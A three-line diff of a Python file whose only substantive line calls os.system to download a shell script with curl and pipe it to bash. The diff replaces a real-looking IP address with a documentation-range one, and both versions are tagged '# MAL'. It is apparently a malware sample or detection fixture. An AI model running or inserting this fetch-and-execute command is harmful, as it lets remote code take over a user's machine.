@@ -1,3 +1,3 @@
 import os
 
-os.system("curl -fsSL http://91.215.85.3/i.sh | bash")  # MAL
+os.system("curl -fsSL http://192.0.2.85/i.sh | bash")  # MAL
